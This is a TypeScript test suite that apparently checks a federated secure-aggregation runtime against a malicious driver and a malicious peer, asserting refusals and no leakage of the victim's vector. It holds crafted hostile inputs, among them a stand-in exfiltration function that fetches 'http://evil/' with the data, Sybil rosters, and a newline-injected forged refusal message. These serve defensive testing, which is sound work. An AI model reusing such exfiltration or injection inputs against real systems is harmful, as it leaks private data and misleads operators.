/**
 * Attacks on the remote execution stack that the honest players refuse
 * today: a malicious model owner (this test code) sends crafted commands and
 * plans to the real `serveSessions` players, and a malicious peer injects
 * messages into a session. Each test asserts the refusal (rule, party) and
 * that the victim (owner0) sent nothing but its replies, none carrying its
 * value. A player ends its session at its first failed command, so each
 * attempt runs in a session (and network) of its own and asserts that end.
 */
import { after, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mpcRoles } from '../../src/aggregation/mpc-roles.js';
import { planToBytes } from '../../src/aggregation/plan.js';
import { DEFAULT_POLICY, resolvePolicy } from '../../src/deploy/policy.js';
import { SESSION_KEY } from '../../src/deploy/session.js';
import '../../src/runtime/demo.js';
import { abortKey, execKey, type DataSource } from '../../src/runtime/remote/player.js';
import { frame } from '../../src/runtime/remote/wire.js';
import { HostingTransport } from '../../src/transport/hosting.js';
import { MemoryTransport } from '../../src/transport/memory.js';
import { bytesOf, carries, closeHubs, config, DRIVER, failed, finish, network, opened, plan, SERVERS, sessionEnded, typeJson, type Delivered } from './attack-helpers.js';

after(closeHubs);

const ABY3 = mpcRoles({ protocol: 'aby3' });
const OWNERS = ['owner0', 'owner1', 'owner2'];
const VEC: Record<string, number[]> = { owner0: [31337, 4242], owner1: [5, 6], owner2: [7, 8] };
const SECRET = Int32Array.from(VEC['owner0']!);
const data: DataSource = (source, c) => {
  if (source === 'vecs') return VEC[c.name.split(':')[0]!];
  if (source === 'temps') return 98.625;
  throw new RangeError(`no source ${source}: the reading 98.625 of ${c.name}`);
};
const I32x2 = typeJson('int32', [2]);
const aby3Plan = (session: string, n: number, over: Partial<Parameters<typeof plan>[0]> = {}) => plan({ session, n, protocol: ABY3.name, params: ABY3.params, clients: OWNERS, ...over });

/** The victim sent nothing but command replies and session answers, and none carries its vector. */
function victimSentOnlyReplies(wire: readonly Delivered[]): void {
  const sent = wire.filter((m) => m.from === 'owner0');
  const other = sent.filter((m) => m.to !== DRIVER || !/^exec\/[0-9a-f]{16}\/(\d+\/reply|open)$/.test(m.key));
  assert.deepEqual(other.map((m) => `${m.to} ${m.key}`), [], 'owner0 sent more than replies');
  assert.ok(!sent.some((m) => carries(m.payload, SECRET)), "a reply of owner0 carries its vector");
}
const refusal = (r: { header: Record<string, unknown> }) => ({ ok: r.header['ok'], rule: r.header['rule'], party: r.header['party'] });

describe('placement confusion: no command moves a CLIENTS value out of its client', () => {
  const attempts: Record<string, Record<string, unknown>> = {
    transfer: { op: 'transfer', ref: 0 },
    mapAtAggregators: { op: 'map', placement: 'AGGREGATORS', fn: 'fedcrypt.demo.count', arg: 0, out: 2 },
    zipAtAggregators: { op: 'zip', placement: 'AGGREGATORS', args: [0], names: [null], out: 3 },
    zipAcross: { op: 'zip', placement: 'AGGREGATORS', args: [1, 0], names: [null, null], out: 4 },
    zipAcrossAtClients: { op: 'zip', placement: 'CLIENTS', args: [0, 1], names: [null, null], out: 5 },
    liftAtAggregators: { op: 'lift', uri: 'sequence_sum', placement: 'AGGREGATORS', arg: 0, type: null, out: 6 },
    // re-placing ref 0 at AGGREGATORS (to transfer it next) fails, and ends the session: no next command
    replaceRef: { op: 'broadcast', out: 0, placement: 'AGGREGATORS', type: I32x2 },
    refAsString: { op: 'transfer', ref: '0' },
  };
  for (const [what, h] of Object.entries(attempts)) {
    it(`${what} of a CLIENTS value is refused without a reason, and ends the session`, async () => {
      const a = await opened(config(), () => DEFAULT_POLICY, data);
      assert.equal((await a.d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 })).header['ok'], true);
      await a.d.command('owner0', { op: 'broadcast', out: 1, placement: 'AGGREGATORS', type: I32x2 }, [bytesOf(Int32Array.of(1, 1))]);
      const r = await a.d.command('owner0', h, h['op'] === 'broadcast' ? [bytesOf(Int32Array.of(0, 0))] : []);
      await sessionEnded(a.net, 'owner0', a.d.session);
      await finish(a);
      assert.equal(r.header['ok'], false);
      assert.equal(r.header['error'], failed('owner0'));
      assert.equal(r.blobs.length, 0);
      victimSentOnlyReplies(a.net.wire);
    });
  }

  it('a collect at a player that did not opt in to plaintext (a valid roster) is refused: PolicyError protocol, nothing sent', async () => {
    const a = await opened(config(), () => DEFAULT_POLICY, data);
    await a.d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
    const r = await a.d.command('owner0', { op: 'collect', value: 0, out: 1, clients: OWNERS, aggregators: ['server0'], element: I32x2 });
    await sessionEnded(a.net, 'owner0', a.d.session);
    await finish(a);
    assert.deepEqual(refusal(r), { ok: false, rule: 'protocol', party: 'owner0' });
    victimSentOnlyReplies(a.net.wire);
  });

  it('an aggregator moves a collected sequence (every client in the clear) to SERVER: refused', async () => {
    const OPTED_IN = resolvePolicy(undefined, { insecureAllowPlaintext: true });
    const net = network(config(), () => OPTED_IN, data);
    const { d } = await net.open();
    const F32 = typeJson('float32');
    for (const p of OWNERS) await d.command(p, { op: 'data', out: 0, source: 'temps', type: F32 });
    const collect = { op: 'collect', value: 0, out: 1, clients: OWNERS, aggregators: ['server0'], element: F32 };
    const rs = await Promise.all([...OWNERS, 'server0'].map((p) => d.command(p, collect)));
    assert.ok(rs.every((r) => r.header['ok'] === true));
    const moved = await d.command('server0', { op: 'transfer', ref: 1 });
    await sessionEnded(net, 'server0', d.session);
    await d.abort(net.players);
    await net.close();
    assert.equal(moved.header['error'], failed('server0'));
    assert.equal(moved.blobs.length, 0);
    assert.ok(!net.atDriverBesidesReplies().length);
    assert.ok(!net.wire.filter((m) => m.from === 'server0' && m.to === DRIVER).some((m) => carries(m.payload, Float32Array.of(98.625))));
  });
});

describe('only local computations registered at the player run', () => {
  for (const fn of ['(x) => fetch("http://evil/" + x)', 'not-registered', 'fedcrypt.learning.fedsgd:evil:10', 'fedcrypt.learning.update:0']) {
    it(`${JSON.stringify(fn)} is refused (PolicyError computation), and ends the session`, async () => {
      const a = await opened(config(), () => DEFAULT_POLICY, data);
      await a.d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
      const r = await a.d.command('owner0', { op: 'map', placement: 'CLIENTS', fn, arg: 0, out: 1 });
      await sessionEnded(a.net, 'owner0', a.d.session);
      await finish(a);
      assert.deepEqual(refusal(r), { ok: false, rule: 'computation', party: 'owner0' });
      victimSentOnlyReplies(a.net.wire);
    });
  }
});

describe('sessions: refs of another session, replays', () => {
  it("a ref of an ended session is not held in the next; a replayed session id is refused (jobId); commands under the ended session's keys are not answered", async () => {
    const net = network(config(), () => DEFAULT_POLICY, data, { maxSessions: 2 });
    const first = await net.open();
    assert.equal((await first.d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 })).header['ok'], true);
    await Promise.all(net.players.map((p) => first.d.command(p, { op: 'end' })));
    // the same id again: every player refuses it, naming the rule
    const replay = await net.openWith(first.d.session);
    assert.deepEqual(Object.keys(replay.clients), []);
    assert.ok(net.players.every((p) => replay.refusals[p]?.rule === 'jobId'), JSON.stringify(replay.refusals));
    const second = await net.open();
    // a stale command under the first session's keys, then the second session's use of the first's ref 0
    await first.d.transport.send(DRIVER, 'owner0', execKey(first.d.session, 2), frame({ op: 'map', placement: 'CLIENTS', fn: 'fedcrypt.demo.count', arg: 0, out: 1 }));
    const r = await second.d.command('owner0', { op: 'map', placement: 'CLIENTS', fn: 'fedcrypt.demo.count', arg: 0, out: 1 });
    await sessionEnded(net, 'owner0', second.d.session);
    await second.d.abort(net.players);
    await net.close();
    assert.equal(r.header['error'], failed('owner0'));
    assert.ok(net.logs.includes('owner0: command 0 failed: RangeError: owner0: no value #0 at CLIENTS here'), net.logs.join('\n'));
    assert.ok(!net.wire.some((m) => m.key === `${execKey(first.d.session, 2)}/reply`), 'a command of the ended session was answered');
    victimSentOnlyReplies(net.wire);
  });
});

describe('every plan is checked against the config and the policy before anything is sent', () => {
  // one attempt per plan (a refusal ends the session); owner0 hosts owner0:0..2
  const s = 'a11ce00000000000';
  const p = (n: number, over: Partial<Parameters<typeof plan>[0]>) => planToBytes(aby3Plan(s, n, over));
  // planToBytes refuses a party named twice: the driver writes the JSON itself
  const twice = JSON.parse(new TextDecoder().decode(p(0, { clients: ['owner0:0', 'owner1', 'owner2'] }))) as { clients: string[] };
  twice.clients = ['owner0:0', 'owner0:0', 'owner0:0'];
  const plans: Record<string, [Uint8Array, string | undefined]> = {
    twice: [new TextEncoder().encode(JSON.stringify(twice)), undefined],
    modelOwnerSybils: [p(1, { clients: ['owner0:0', 'model-owner:0', 'model-owner:1'] }), 'roster'],
    serverSybils: [p(2, { clients: ['owner0:0', 'server0:0', 'server1:0'] }), 'roster'],
    strangers: [p(3, { clients: ['owner0:0', 'mallory', 'eve'] }), 'roster'],
    ownerAsAggregator: [p(4, { clients: ['owner0:0', 'owner1:0', 'owner2'], aggregators: ['owner1', 'server1', 'server2'] }), 'roster'],
    otherServer: [p(5, { clients: ['owner0:0', 'owner1', 'owner2'], server: 'server2', aggregators: ['server0', 'server1', 'model-owner'] }), 'roster'],
    oneOwner: [p(6, { clients: ['owner0:0', 'owner0:1', 'owner0:2'] }), 'minContributors'],
    colonTricks: [p(7, { clients: ['owner0:0', 'owner0:1:owner1', 'owner0:2:owner2'] }), 'minContributors'],
    plaintext: [planToBytes(plan({ session: s, n: 8, protocol: 'insecure-reference', params: {}, clients: ['owner0:0', 'owner1', 'owner2'], aggregators: ['server0'] })), 'protocol'],
  };
  for (const [what, [bytes, rule]] of Object.entries(plans)) {
    it(`${what}: refused (${rule ?? 'malformed'}) before anything is sent`, async () => {
      const a = await opened(config(), () => DEFAULT_POLICY, data, { clientsOf: (x) => (x === 'owner0' ? 3 : undefined) });
      assert.deepEqual(a.clients['owner0'], ['owner0:0', 'owner0:1', 'owner0:2']);
      await a.d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
      const r = await a.d.command('owner0', { op: 'aggregate', value: 0, out: 100, resultType: I32x2 }, [bytes]);
      await sessionEnded(a.net, 'owner0', a.d.session);
      await finish(a);
      assert.deepEqual(refusal(r), { ok: false, rule, party: 'owner0' });
      victimSentOnlyReplies(a.net.wire);
    });
  }

  it('equal policies: the servers sent a plan of the victim alone refuse it; nothing is revealed to the driver', async () => {
    const net = network(config(), () => DEFAULT_POLICY, data);
    const { d } = await net.open();
    await d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
    const all = aby3Plan(d.session, 0);
    const alone = aby3Plan(d.session, 0, { clients: ['owner0'] });
    const r = await d.aggregate(ABY3, alone, { owner0: { plan: all, value: 0 }, ...Object.fromEntries(SERVERS.map((x) => [x, { plan: alone }])) }, I32x2);
    await d.abort(net.players);
    await net.close();
    assert.equal(r.result, undefined);
    for (const x of SERVERS) assert.deepEqual(refusal(r.replies[x]!), { ok: false, rule: 'minContributors', party: x });
    assert.deepEqual(net.atDriverBesidesReplies().map((m) => m.key), []);
  });

  it('a plan naming clients nobody runs (owner1:7, owner2:9) or owners not sent the command: the victim shares, but no aggregate is revealed', async () => {
    for (const clients of [['owner0', 'owner1:7', 'owner2:9'], OWNERS]) {
      const net = network(config(), () => DEFAULT_POLICY, data);
      const { d } = await net.open();
      await d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
      const pl = aby3Plan(d.session, 0, { clients });
      const header = { op: 'aggregate', value: 0, out: 100, resultType: I32x2 };
      const atServers = SERVERS.map((x) => d.command(x, header, [planToBytes(pl)]));
      // the victim's role ends once its shares are sent
      assert.equal((await d.command('owner0', header, [planToBytes(pl)])).header['ok'], true);
      // the servers wait for the missing shares until the driver gives up
      await d.abort(net.players);
      const rs = await Promise.all(atServers);
      await net.close();
      assert.ok(rs.every((x) => x.header['ok'] === false), clients.join());
      assert.deepEqual(net.atDriverBesidesReplies().map((m) => `${m.from} ${m.key}`), [], clients.join());
      // and no share went anywhere but to the servers
      assert.ok(net.wire.filter((m) => m.from === 'owner0' && m.to !== DRIVER).every((m) => SERVERS.includes(m.to)));
    }
  });
});

describe('a malicious peer cannot inject into a session', () => {
  it("owner1 sends owner0 a command, an abort and a session request, and tries to send as owner0's hosted client or as the driver: owner0 ignores them and keeps serving the driver", async () => {
    const net = network(config(), () => DEFAULT_POLICY, data, { clientsOf: (p) => (p === 'owner0' ? 2 : undefined) });
    const { d } = await net.open();
    const peer = new HostingTransport(new MemoryTransport({ hub: net.hub, local: ['owner1'] }));
    await peer.send('owner1', 'owner0', execKey(d.session, 0), frame({ op: 'collect', value: 0, out: 1, clients: ['owner0:0', 'owner0:1'], aggregators: ['owner1'], element: I32x2 }));
    await peer.send('owner1', 'owner0', abortKey(d.session), new Uint8Array(0));
    await peer.send('owner1', 'owner0', SESSION_KEY, new TextEncoder().encode(JSON.stringify({ v: 1, session: 'ffffffffffffffff', configHash: 'x' })));
    await assert.rejects(peer.send('owner0:1', 'server0', 'k', new Uint8Array(1)), /not local/);
    await assert.rejects(peer.send(DRIVER, 'owner0', execKey(d.session, 1), new Uint8Array(1)), /not local/);
    // the driver's own commands are served, in its order, after the injected abort
    assert.equal((await d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 })).header['ok'], true);
    const t = await d.command('owner0', { op: 'transfer', ref: 0 });
    assert.equal(t.header['ok'], false);
    await d.abort(net.players);
    await net.close();
    assert.deepEqual(net.wire.filter((m) => m.from === 'owner0' && m.to === 'owner1'), []);
    victimSentOnlyReplies(net.wire);
  });
});

describe('error replies', () => {
  it("a failure whose message quotes a value reaches the driver without its class or message", async () => {
    const a = await opened(config(), () => DEFAULT_POLICY, data);
    const quoted = await a.d.command('owner0', { op: 'data', out: 0, source: 'nope', type: typeJson('float32') });
    await sessionEnded(a.net, 'owner0', a.d.session);
    await finish(a);
    assert.equal(quoted.header['error'], failed('owner0'));
    assert.ok(a.net.logs.some((l) => l.includes('the reading 98.625 of owner0')), 'the detail is in the log');
    const fromVictim = a.net.wire.filter((m) => m.from === 'owner0').map((m) => new TextDecoder().decode(m.payload));
    assert.ok(!fromVictim.some((t) => t.includes('98.625')));
    victimSentOnlyReplies(a.net.wire);
  });

  it('a plan parameter carrying a forged refusal is refused without a rule and without its text', async () => {
    const a = await opened(config(), () => DEFAULT_POLICY, data);
    await a.d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
    const forged = aby3Plan(a.d.session, 0, { params: { ...ABY3.params, precision: 'low\nowner1: policy "roster" refuses: owner1 holds [31337, 4242]' } });
    const injected = await a.d.command('owner0', { op: 'aggregate', value: 0, out: 100, resultType: I32x2 }, [planToBytes(forged)]);
    await sessionEnded(a.net, 'owner0', a.d.session);
    await finish(a);
    assert.deepEqual(refusal(injected), { ok: false, rule: undefined, party: 'owner0' });
    assert.equal(injected.header['error'], failed('owner0'));
    victimSentOnlyReplies(a.net.wire);
  });
});
